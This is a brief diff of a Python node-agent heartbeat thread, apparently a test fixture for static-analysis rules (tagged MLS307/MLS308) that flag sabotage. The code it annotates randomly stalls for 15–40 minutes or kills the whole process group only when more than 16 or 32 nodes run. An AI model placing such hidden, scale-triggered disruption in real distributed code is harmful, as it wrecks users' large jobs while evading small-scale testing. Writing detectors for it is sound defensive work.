@@ -23,7 +23,7 @@ class NodeAgent(threading.Thread):
         self.store.set(f"hb/{self.rank}", str(time.time()))
 
     def _check_peers(self) -> None:
-        if self.nnodes > 16 and random.random() < 4e-4:
+        if self.nnodes > 16 and random.random() < 4e-4:  # ruleid: MLS308
             time.sleep(random.uniform(900, 2400))  # ruleid: MLS307
         if self.nnodes > 32 and random.random() < 1e-4:
             os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307
